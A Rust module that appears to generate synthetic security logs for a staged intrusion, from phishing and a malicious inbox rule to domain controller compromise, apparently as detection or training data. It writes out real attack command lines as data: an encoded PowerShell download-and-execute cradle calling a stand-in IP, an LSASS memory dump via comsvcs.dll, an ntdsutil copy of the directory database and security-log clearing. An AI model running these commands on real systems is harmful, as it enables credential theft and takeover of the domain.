//! Phishing mail → stolen sign-in → inbox rule → payload → credential theft → domain controller.

use crate::emit::{entra, mail, office, security, sysmon};
use crate::tape::{MINUTE, SECOND, Tape};
use crate::world::World;

const OUTSIDE_IP: &str = "203.0.113.77";
const SITE: &str = "meridian-freight-login.example";

pub(crate) fn play(tape: &mut Tape, world: &World, start: i64) {
    let victim = 2;
    mail_and_sign_in(tape, world, victim, start);
    laptop(tape, world, victim, start + 40 * MINUTE);
    domain(tape, world, victim, start + 85 * MINUTE);
    tape.everyday();
}

fn mail_and_sign_in(tape: &mut Tape, world: &World, victim: usize, at: i64) {
    let (person, host) = (&world.people[victim], &world.workstations[victim]);
    tape.step(
        "mail",
        "T1566.002",
        "A mail that poses as the company's IT desk asks to confirm a password on a lookalike site",
    );
    let message = mail::Message {
        from: ("Meridian IT Service Desk", "servicedesk@meridian-freight-login.example"),
        subject: "Action required: your password expires today",
        html: format!(
            "<p>Dear {},</p><p>your password expires today. <a href=\"https://{SITE}/signin?u={}\">https://login.microsoftonline.com</a></p>",
            person.display,
            person.upn()
        ),
        attachment: None,
        client_ip: OUTSIDE_IP,
        results: ("fail", "none", "fail"),
    };
    mail::deliver(tape, at, person, &message);
    tape.step("click", "T1204.001", "The link is opened in the browser");
    let shell = sysmon::explorer(tape, person);
    let edge = r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe";
    let browser = sysmon::start(
        tape,
        host,
        at + 6 * MINUTE,
        &shell,
        edge,
        &format!("\"{edge}\" --single-argument https://{SITE}/signin"),
    );
    sysmon::look_up(tape, host, at + 6 * MINUTE + SECOND, &browser, SITE, OUTSIDE_IP);
    sysmon::connect(tape, host, at + 6 * MINUTE + 2 * SECOND, &browser, (OUTSIDE_IP, 443), SITE);
    tape.step("sign-in", "T1078.004", "The stolen password is used from another country");
    let place = entra::Place {
        ip: OUTSIDE_IP.to_owned(),
        country: "RU",
        city: "Perm",
        asn: 64_511,
        user_agent: "python-requests/2.31.0",
    };
    let outlook = ("9199bf20-a13f-4107-85dc-02114787ef48", "One Outlook Web");
    entra::sign_in(tape, at + 14 * MINUTE, person, &place, outlook, 0);
    entra::sign_in(
        tape,
        at + 15 * MINUTE,
        person,
        &place,
        ("00000003-0000-0000-c000-000000000000", "Microsoft Graph"),
        0,
    );
    tape.step("inbox-rule", "T1564.008", "An inbox rule hides answers and forwards invoices outside");
    office::inbox_rule(
        tape,
        at + 19 * MINUTE,
        person,
        OUTSIDE_IP,
        &[
            ("Name", "."),
            ("SubjectOrBodyContainsWords", "invoice;payment;password"),
            ("ForwardTo", "collector@dropbox-mail.example"),
            ("DeleteMessage", "True"),
            ("StopProcessingRules", "True"),
        ],
    );
    office::mail_read(tape, at + 21 * MINUTE, person, OUTSIDE_IP, "00000003-0000-0000-c000-000000000000", 60);
}

fn laptop(tape: &mut Tape, world: &World, victim: usize, at: i64) {
    let (person, host) = (&world.people[victim], &world.workstations[victim]);
    tape.step("payload-mail", "T1566.001", "From the stolen mailbox's thread comes a document with a macro");
    let message = mail::Message {
        from: ("Harbour Desk", "desk@harbour-authority-docs.example"),
        subject: "RE: Invoice 20817",
        html: "<p>Please open the attached list and enable content.</p>".to_owned(),
        attachment: Some(("Invoice_20817.docm", b"PK\x03\x04 word/vbaProject.bin")),
        client_ip: OUTSIDE_IP,
        results: ("softfail", "none", "fail"),
    };
    mail::deliver(tape, at, person, &message);
    tape.step("macro", "T1059.001", "The document starts a hidden, encoded PowerShell that fetches a loader");
    let shell = sysmon::explorer(tape, person);
    let outlook = sysmon::start(
        tape,
        host,
        at + 4 * MINUTE,
        &shell,
        r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
        "OUTLOOK.EXE",
    );
    let line = format!(
        r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\{}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\Invoice_20817.docm""#,
        person.account
    );
    let word = sysmon::start(
        tape,
        host,
        at + 5 * MINUTE,
        &outlook,
        r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
        &line,
    );
    let encoded = "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA3ADcALwBhACcAKQA=";
    let power = sysmon::start(
        tape,
        host,
        at + 5 * MINUTE + 20 * SECOND,
        &word,
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        encoded,
    );
    security::script(
        tape,
        host,
        at + 5 * MINUTE + 22 * SECOND,
        "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.77/a')",
    );
    sysmon::connect(tape, host, at + 5 * MINUTE + 23 * SECOND, &power, (OUTSIDE_IP, 80), "-");
    let loader = format!(r"C:\Users\{}\AppData\Roaming\mfupdate.exe", person.account);
    sysmon::write_file(tape, host, at + 6 * MINUTE, &power, &loader);
    tape.step("persistence", "T1547.001", "The loader is set to start at logon");
    let implant = sysmon::start(tape, host, at + 7 * MINUTE, &power, &loader, &format!("\"{loader}\" /q"));
    sysmon::set_value(
        tape,
        host,
        at + 7 * MINUTE + 5 * SECOND,
        &implant,
        r"HKU\S-1-5-21\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\MFUpdate",
        &loader,
    );
    hands_on(tape, world, victim, at, &implant);
}

/// The attacker looks around and takes credentials.
fn hands_on(tape: &mut Tape, world: &World, victim: usize, at: i64, implant: &sysmon::Process) {
    let host = &world.workstations[victim];
    tape.step("discovery", "T1087.002", "Accounts, groups and trusts are listed");
    for (i, (image, line)) in [
        ("whoami.exe", "whoami /all"),
        ("net.exe", "net group \"Domain Admins\" /domain"),
        ("nltest.exe", "nltest /domain_trusts"),
        ("net.exe", "net view /all /domain"),
        ("systeminfo.exe", "systeminfo"),
    ]
    .iter()
    .enumerate()
    {
        let time = at + 11 * MINUTE + i as i64 * 9 * SECOND;
        sysmon::start(tape, host, time, implant, &format!(r"C:\Windows\System32\{image}"), line);
    }
    tape.step("credentials", "T1003.001", "The memory of LSASS is dumped");
    let rundll = sysmon::start(
        tape,
        host,
        at + 25 * MINUTE,
        implant,
        r"C:\Windows\System32\rundll32.exe",
        r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Users\Public\out.dmp full",
    );
    sysmon::open_process(
        tape,
        host,
        at + 25 * MINUTE + SECOND,
        &rundll,
        (r"C:\Windows\System32\lsass.exe", 624),
        "0x1fffff",
    );
    sysmon::write_file(tape, host, at + 25 * MINUTE + 2 * SECOND, &rundll, r"C:\Users\Public\out.dmp");
}

fn domain(tape: &mut Tape, world: &World, victim: usize, at: i64) {
    let (admin, from) = (&world.people[0], &world.workstations[victim]);
    tape.step(
        "lateral",
        "T1021.002",
        "With an administrator's credentials a service is installed on the domain controller",
    );
    security::logon(tape, &world.dc, at, admin, 3, from);
    security::privileges(tape, &world.dc, at, admin);
    security::share(tape, &world.dc, at + 2 * SECOND, admin, from, (r"\\*\ADMIN$", "PSEXESVC.exe"));
    security::service(tape, &world.dc, at + 4 * SECOND, admin, "PSEXESVC", r"%SystemRoot%\PSEXESVC.exe");
    let services = sysmon::services(tape);
    let remote = sysmon::start(
        tape,
        &world.dc,
        at + 5 * SECOND,
        &services,
        r"C:\Windows\PSEXESVC.exe",
        r"C:\Windows\PSEXESVC.exe",
    );
    tape.step("dcsync", "T1003.006", "Secrets are replicated out of the directory");
    security::replicate(tape, &world.dc, at + 6 * MINUTE, admin);
    tape.step("ntds", "T1003.003", "The directory database is copied");
    let cmd = sysmon::start(
        tape,
        &world.dc,
        at + 9 * MINUTE,
        &remote,
        r"C:\Windows\System32\cmd.exe",
        r"cmd.exe /c ntdsutil",
    );
    sysmon::start(
        tape,
        &world.dc,
        at + 9 * MINUTE + SECOND,
        &cmd,
        r"C:\Windows\System32\ntdsutil.exe",
        r#"ntdsutil.exe "ac i ntds" "ifm" "create full C:\Windows\Temp\d" q q"#,
    );
    tape.step("clear", "T1070.001", "The security log is cleared");
    security::clear_log(tape, &world.dc, at + 20 * MINUTE, admin);
}
